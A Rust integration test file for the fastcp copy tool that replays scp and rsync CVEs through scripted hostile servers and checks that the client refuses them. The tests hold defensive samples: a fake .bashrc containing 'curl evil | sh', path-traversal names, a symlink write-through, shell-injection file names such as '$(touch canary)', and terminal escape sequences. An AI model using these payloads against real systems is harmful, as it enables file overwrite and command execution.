//! The peers' CVEs, replayed against fastcp end to end (see ../shared/PEERS.md).
//!
//! A hostile server is a real sshd whose `--remote-path` program is a script that ignores the
//! client and writes crafted fastcp frames, so the client faces exactly what a compromised
//! host could send.

mod common;

use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Output;

use bytes::{Bytes, BytesMut};
use common::*;
use fastcp_proto::{
    Accept, Data, FileEnd, FileEntry, Frame, Hello, Meta, Rendezvous, Summary, SymlinkEntry, encode,
};
use fastcp_testsupport::Sshd;
use fastcp_testsupport::tree::{assert_no_temp, scan, write};

/// A "server" that answers any client with `frames` after a valid hello and accept.
fn hostile_server(dir: &Path, frames: &[Frame]) -> PathBuf {
    scripted_server(dir, fastcp_proto::PROTOCOL_VERSION, frames)
}

/// A "server" speaking protocol `version` at most that answers with `frames` after its hello
/// and accept.
fn scripted_server(dir: &Path, version: u16, frames: &[Frame]) -> PathBuf {
    let mut wire = BytesMut::new();
    for frame in [
        Frame::Hello(Hello {
            version,
            min_version: fastcp_proto::MIN_PROTOCOL_VERSION,
            cpu_features: 0b11,
            ciphers: vec![1, 2, 3],
            compression: vec![0],
            max_frame: fastcp_proto::DEFAULT_MAX_FRAME,
            software: "hostile".into(),
        }),
        Frame::Accept(Accept {
            streams: 1,
            rendezvous: Rendezvous::None,
            server_random: [7; 32],
        }),
    ]
    .iter()
    .chain(frames)
    {
        encode(frame, &mut wire);
    }
    let payload = dir.join("payload.bin");
    std::fs::write(&payload, &wire).unwrap();
    // Write everything, then keep reading stdin so the client's writes never fail first.
    script(
        dir,
        "hostile-fastcp",
        &format!("cat '{}'; cat > /dev/null", payload.display()),
    )
}

fn file(id: u64, path: &[u8], content: &[u8]) -> Vec<Frame> {
    file_with(id, path, content, fastcp_proto::PROTOCOL_VERSION)
}

/// A whole file's frames, with the checksum protocol `version` uses.
fn file_with(id: u64, path: &[u8], content: &[u8], version: u16) -> Vec<Frame> {
    vec![
        Frame::File(FileEntry {
            id,
            path: Bytes::copy_from_slice(path),
            size: content.len() as u64,
            meta: Meta {
                atime: None,
                mode: 0o644,
                mtime: 0,
                mtime_nsec: 0,
            },
        }),
        Frame::Data(Data {
            id,
            offset: 0,
            bytes: Bytes::copy_from_slice(content),
        }),
        Frame::FileEnd(FileEnd {
            id,
            hash: fastcp::stream::whole_file_checksum(version, content),
        }),
    ]
}

fn done(files: u64, bytes: u64) -> Frame {
    Frame::Done(Summary {
        files,
        bytes,
        ..Summary::default()
    })
}

/// Pulls `host:<asked>` into `dest` from a server that sends `frames`; checks that it fails
/// and that nothing appeared outside `dest` or under a name nobody asked for.
fn pull_from_hostile(frames: Vec<Frame>, asked: &str) -> (Output, tempfile::TempDir) {
    let sshd = Sshd::start().unwrap();
    let work = tempfile::tempdir().unwrap();
    let server = hostile_server(work.path(), &frames);
    let dest = work.path().join("dest");
    std::fs::create_dir(&dest).unwrap();
    let out = run(fastcp(&sshd, &server)
        .args(["-r", "--transport", "ssh"])
        .arg(format!("{}:{asked}", sshd.alias()))
        .arg(&dest));
    assert!(!out.status.success(), "the hostile stream was accepted");
    assert_no_temp(&dest);
    (out, work)
}

/// CVE-2019-6111: a server answering a request for `a.txt` with another file name.
#[test]
fn cve_2019_6111_server_cannot_send_unrequested_names() {
    let mut frames = file(1, b".bashrc", b"curl evil | sh\n");
    frames.push(done(1, 15));
    let (out, work) = pull_from_hostile(frames, "a.txt");
    assert!(scan(&work.path().join("dest")).is_empty());
    assert!(stderr(&out).contains(".bashrc"), "{}", stderr(&out));
}

/// CVE-2019-6111 with a wildcard: a server asked for `*.txt` may send only names that match
/// it, never a hidden file, another name, or a directory around a match, whether or not the
/// name is UTF-8 (names are matched as bytes).
#[test]
fn cve_2019_6111_a_wildcard_accepts_only_its_matches() {
    for evil in [
        &b".bashrc"[..],
        b".hidden.txt",
        b"run.sh",
        b"sub/a.txt",
        b".\xff.txt",
        b"\xff.sh",
        b"sub\xff/a.txt",
    ] {
        let mut frames = file(1, evil, b"curl evil | sh\n");
        frames.push(done(1, 15));
        let (out, work) = pull_from_hostile(frames, "*.txt");
        assert!(scan(&work.path().join("dest")).is_empty(), "{evil:?}");
        assert!(
            stderr(&out).contains("was not requested"),
            "{evil:?}: {}",
            stderr(&out)
        );
    }
}

/// CVE-2018-20685 and CVE-2019-6111: "." and ".." names, absolute paths.
#[test]
fn cve_2018_20685_dot_dotdot_and_absolute_names_are_refused() {
    for evil in [
        &b"."[..],
        b"..",
        b"../escape",
        b"/tmp/escape",
        b"a.txt/../../x",
    ] {
        let mut frames = file(1, evil, b"x");
        frames.push(done(1, 1));
        let (_out, work) = pull_from_hostile(frames, "a.txt");
        let names: Vec<_> = std::fs::read_dir(work.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        assert!(
            names
                .iter()
                .all(|n| ["dest", "payload.bin", "hostile-fastcp"].contains(&n.as_str())),
            "{evil:?} wrote {names:?}"
        );
        assert!(scan(&work.path().join("dest")).is_empty(), "{evil:?}");
    }
}

/// CVE-2024-12088 and CVE-2024-12747: a symlink followed by a write through it.
#[test]
fn cve_2024_12088_no_write_through_a_symlink_from_the_server() {
    let outside = tempfile::tempdir().unwrap();
    let mut frames = vec![Frame::Dir(fastcp_proto::DirEntry {
        path: Bytes::from_static(b"d"),
        meta: Meta {
            atime: None,
            mode: 0o755,
            mtime: 0,
            mtime_nsec: 0,
        },
    })];
    frames.push(Frame::Symlink(SymlinkEntry {
        times: None,
        path: Bytes::from_static(b"d/link"),
        target: Bytes::copy_from_slice(outside.path().as_os_str().as_encoded_bytes()),
    }));
    frames.extend(file(1, b"d/link/pwned", b"owned"));
    frames.push(done(1, 5));
    let (_out, _work) = pull_from_hostile(frames, "d");
    assert!(scan(outside.path()).is_empty(), "wrote through the link");
}

/// CVE-2020-15778: shell metacharacters in a remote path are data, never commands.
#[test]
fn cve_2020_15778_remote_paths_never_reach_a_shell() {
    let sshd = Sshd::start().unwrap();
    let work = tempfile::tempdir().unwrap();
    let src = work.path().join("a");
    write(&src, b"payload", 0o644);
    let canary = work.path().join("canary");
    let dest_dir = work.path().join("dest");
    std::fs::create_dir(&dest_dir).unwrap();
    let evil = format!("x;touch {0};$(touch {0})`touch {0}`", canary.display());
    let out = run(fastcp(&sshd, bin()).arg(&src).arg(format!(
        "{}:{}/{evil}",
        sshd.alias(),
        dest_dir.display()
    )));
    assert!(!canary.exists(), "a remote shell ran part of the path");
    // The path is a (strange) file name like any other; it may be created or refused.
    assert!(out.status.code().is_some());
}

/// CVE-2023-43621: no secret or path on the remote command line or in its environment.
#[test]
fn cve_2023_43621_remote_command_line_is_fixed() {
    let sshd = Sshd::start().unwrap();
    let work = tempfile::tempdir().unwrap();
    let log = work.path().join("argv.log");
    let wrapper = script(
        work.path(),
        "recording-fastcp",
        &format!(
            "printf '%s\\n' \"$@\" > '{0}'; env >> '{0}'; exec '{BIN}' \"$@\"",
            log.display()
        ),
    );
    let src = work.path().join("secret-name.txt");
    write(&src, b"x", 0o644);
    for transport in ["ssh", "tcp"] {
        let out = run(fastcp(&sshd, &wrapper)
            .args(["--transport", transport])
            .arg(&src)
            .arg(format!(
                "{}:{}",
                sshd.alias(),
                work.path().join("copy").display()
            )));
        assert!(out.status.success(), "{}", stderr(&out));
        let recorded = std::fs::read_to_string(&log).unwrap();
        let mut lines = recorded.lines();
        assert_eq!(lines.next(), Some("server"), "{recorded}");
        assert!(!recorded.contains("secret-name"), "{recorded}");
        assert!(!recorded.contains("copy"), "{recorded}");
    }
}

/// PEERS.md lesson 10: the receiver's CPU counts. A server without AES hardware makes the
/// client pick ChaCha20-Poly1305 although the client has AES.
#[test]
fn receiver_without_aes_gets_chacha20() {
    let sshd = Sshd::start().unwrap();
    let work = tempfile::tempdir().unwrap();
    let no_aes = script(
        work.path(),
        "no-aes-fastcp",
        &format!("FASTCP_NO_HW_AES=1 exec '{BIN}' \"$@\""),
    );
    let src = work.path().join("a");
    write(&src, &vec![7u8; 3 << 20], 0o644);
    let out = run(fastcp(&sshd, &no_aes)
        .env_remove("FASTCP_NO_HW_AES")
        .args(["--transport", "tcp", "--json"])
        .arg(&src)
        .arg(format!(
            "{}:{}",
            sshd.alias(),
            work.path().join("b").display()
        )));
    assert!(out.status.success(), "{}", stderr(&out));
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["cipher"], "chacha20-poly1305");
    assert_eq!(
        std::fs::read(work.path().join("b")).unwrap(),
        vec![7u8; 3 << 20]
    );
}

/// A server that speaks only version 2 checks files with BLAKE3: the client must verify with
/// BLAKE3 too, and so refuse a version 3 checksum from it.
#[test]
fn an_older_server_is_checked_with_its_own_checksum() {
    let sshd = Sshd::start().unwrap();
    let content = b"from an older fastcp\n";
    for (checksum_of, ok) in [(2, true), (3, false)] {
        let work = tempfile::tempdir().unwrap();
        let mut frames = file_with(1, b"a.txt", content, checksum_of);
        frames.push(done(1, content.len() as u64));
        let server = scripted_server(work.path(), 2, &frames);
        let dest = work.path().join("dest");
        std::fs::create_dir(&dest).unwrap();
        let out = run(fastcp(&sshd, &server)
            .args(["--transport", "ssh", "-v"])
            .arg(format!("{}:a.txt", sshd.alias()))
            .arg(&dest));
        assert!(
            stderr(&out).contains("protocol version 2"),
            "{}",
            stderr(&out)
        );
        if ok {
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(std::fs::read(dest.join("a.txt")).unwrap(), content);
        } else {
            assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
            assert!(
                stderr(&out).contains("checksum mismatch"),
                "{}",
                stderr(&out)
            );
            assert!(scan(&dest).is_empty());
            assert_no_temp(&dest);
        }
    }
}

/// A server older than protocol version 13 reads some include and exclude rules otherwise
/// (no `\\` quoting, a `**` of its own, paths from the source's name for a folder's
/// contents): a pull, which it walks by the rules, refuses such a rule before the request
/// goes, and takes one it reads alike.
#[test]
fn an_older_server_is_not_given_rules_it_reads_otherwise() {
    let sshd = Sshd::start().unwrap();
    for (source, rule, refused) in [
        ("src", "file\\?", true),
        ("src", "a/**", true),
        ("src/.", "/build/", true),
        ("src/.", "*.o", false),
        ("src", "/src/build/", false),
    ] {
        let work = tempfile::tempdir().unwrap();
        let server = scripted_server(work.path(), 12, &[]);
        let out = run(fastcp(&sshd, &server)
            .args([
                "--transport",
                "ssh",
                "--timeout",
                "2",
                "-r",
                "--exclude",
                rule,
            ])
            .arg(format!("{}:{source}", sshd.alias()))
            .arg(work.path().join("dest")));
        let err = stderr(&out);
        let says = err.contains("needs protocol version 13 on the remote side");
        assert_eq!(says, refused, "{source} {rule}: {err}");
        if refused {
            assert_eq!(out.status.code(), Some(2), "{err}");
            assert!(err.contains(rule), "{err}");
        }
    }
}

/// Before protocol version 14, a remote side asked the rules of the folders that lead to a
/// `--files-from` list's paths, and made them even when the rules leave those paths out: a
/// pull it walks, or a push's mirror it spares by the list and the rules, is refused before
/// the request goes when both are given and the list names a path in a folder; without
/// rules, or with no such path, the older side reads the list alike.
#[test]
fn an_older_server_is_not_given_a_files_from_list_with_rules_it_reads_otherwise() {
    let sshd = Sshd::start().unwrap();
    for (listed, rule, push, refused) in [
        ("a/b/x.o", Some("*.o"), false, true),
        ("a/b/x.o", Some("*.o"), true, true),
        ("a/b/x.o", None, false, false),
        ("x.o", Some("*.o"), false, false),
    ] {
        let work = tempfile::tempdir().unwrap();
        let server = scripted_server(work.path(), 13, &[]);
        let list = work.path().join("list");
        std::fs::write(&list, format!("{listed}\n")).unwrap();
        let src = work.path().join("src");
        std::fs::create_dir_all(src.join("a/b")).unwrap();
        write(&src.join(listed), b"x", 0o644);
        let mut cmd = fastcp(&sshd, &server);
        cmd.args(["--transport", "ssh", "--timeout", "2", "-r", "--files-from"])
            .arg(&list);
        if let Some(rule) = rule {
            cmd.args(["--exclude", rule]);
        }
        if push {
            cmd.arg("--delete")
                .arg(&src)
                .arg(remote(&sshd, &work.path().join("dest")));
        } else {
            cmd.arg(remote(&sshd, &src)).arg(work.path().join("dest"));
        }
        let out = run(&mut cmd);
        let err = stderr(&out);
        let says = err.contains("needs protocol version 14 on the remote side");
        assert_eq!(says, refused, "{listed} {rule:?} push {push}: {err}");
        if refused {
            assert_eq!(out.status.code(), Some(2), "{err}");
        }
    }
}

/// Names built for command injection (`;`, `$(...)`, backticks, quotes, spaces, a newline, a
/// leading `-`) are data under every kind of login shell the remote user may have: bash, dash
/// and tcsh. The remote has no fastcp, so each copy also goes through self-deploy's remote
/// commands, with the built-in client and with the system ssh (`--ssh-program ssh`), both
/// ways. The sessions start in a home of the harness's own, where a `touch canary` that ran
/// would leave its mark.
#[test]
fn hostile_names_are_data_under_every_login_shell() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: giving sshd's user another login shell needs root");
        return;
    }
    let names: [&[u8]; 8] = [
        b"x;touch canary",
        b"$(touch canary)",
        b"`touch canary`",
        b"q'uo\"te",
        b"sp ace",
        b"new\nline",
        b"-leading",
        b"!bang&amp|pipe>gt",
    ];
    for shell in ["bash", "dash", "tcsh"] {
        let shell = fastcp_testsupport::tools::require(shell);
        let sshd = Sshd::start_with_login_shell(&shell, &[]).unwrap();
        // The sessions' shell is the one asked for.
        let out = std::process::Command::new(fastcp_testsupport::tools::require("ssh"))
            .arg("-F")
            .arg(sshd.ssh_config())
            .arg(sshd.alias())
            .arg("ps -o comm= -p $$; true")
            .env_remove("SSH_AUTH_SOCK")
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let name = shell.file_name().unwrap().to_str().unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), name, "{out:?}");
        let work = tempfile::tempdir().unwrap();
        let src = work.path().join("src");
        std::fs::create_dir(&src).unwrap();
        for (i, name) in names.iter().enumerate() {
            let name = std::ffi::OsStr::from_bytes(name);
            write(&src.join(name), format!("file {i}").as_bytes(), 0o644);
        }
        // The destination folder's own name is hostile too.
        let dst = work
            .path()
            .join("dst;touch canary $(touch canary) `touch canary` 'q\"");
        std::fs::create_dir(&dst).unwrap();
        let plain = |extra: &[&str]| {
            let mut cmd = std::process::Command::new(BIN);
            cmd.arg("-F")
                .arg(sshd.ssh_config())
                .args(extra)
                .env_remove("SSH_AUTH_SOCK");
            cmd
        };
        for (how, extra) in [
            ("built-in, ssh", &["--transport", "ssh"][..]),
            ("built-in, tcp", &["--transport", "tcp"][..]),
            ("system ssh", &["--ssh-program", "ssh"][..]),
        ] {
            let what = format!("{} ({how})", shell.display());
            let pushed = dst.join(how);
            let out = run(plain(extra).arg("-r").arg(&src).arg(remote(&sshd, &pushed)));
            assert!(out.status.success(), "push, {what}: {}", stderr(&out));
            fastcp_testsupport::tree::assert_same_tree(&src, &pushed, false);
            let pulled = work.path().join(format!("pulled {how}"));
            let out = run(plain(extra)
                .arg("-r")
                .arg(remote(&sshd, &pushed))
                .arg(&pulled));
            assert!(out.status.success(), "pull, {what}: {}", stderr(&out));
            fastcp_testsupport::tree::assert_same_tree(&src, &pulled, false);
            // One file by its own hostile name, as an operand of its own.
            let single = remote(&sshd, &pushed.join("-leading"));
            let copied = work.path().join(format!("single {how}"));
            let out = run(plain(extra).arg(&single).arg(&copied));
            assert!(out.status.success(), "single, {what}: {}", stderr(&out));
            assert_eq!(std::fs::read(&copied).unwrap(), b"file 6");
        }
        let ran: Vec<_> = std::fs::read_dir(sshd.home())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .filter(|n| n == "canary")
            .collect();
        assert!(
            ran.is_empty(),
            "a remote shell ({}) ran part of a name",
            shell.display()
        );
        // The shell really was the login shell: self-deploy cached fastcp in the new home.
        assert!(
            sshd.home().join(".cache/fastcp").is_dir(),
            "no deploy under {}",
            shell.display()
        );
        assert!(
            !work.path().join("canary").exists() && !dst.join("canary").exists(),
            "a shell ran part of a name"
        );
    }
}

/// CVE-2019-6110: what the remote program writes to stderr is shown as its host's words,
/// with its control characters escaped: a hostile remote cannot clear the screen or rewrite
/// the lines the user reads.
#[test]
fn cve_2019_6110_remote_stderr_cannot_drive_the_terminal() {
    let sshd = Sshd::start().unwrap();
    let work = tempfile::tempdir().unwrap();
    let hostile = script(
        work.path(),
        "hostile-fastcp",
        r"printf '\033[2J\033[1Ahidden\rall is well\n' >&2; exit 1",
    );
    let src = work.path().join("a");
    write(&src, b"x", 0o644);
    let out = run(fastcp(&sshd, &hostile)
        .arg(&src)
        .arg(remote(&sshd, &work.path().join("b"))));
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains('\u{1b}') && !err.contains('\r'), "{err:?}");
    assert!(
        err.contains(&format!(
            "{}: \\x1b[2J\\x1b[1Ahidden\\x0dall is well",
            sshd.alias()
        )),
        "{err:?}"
    );
}
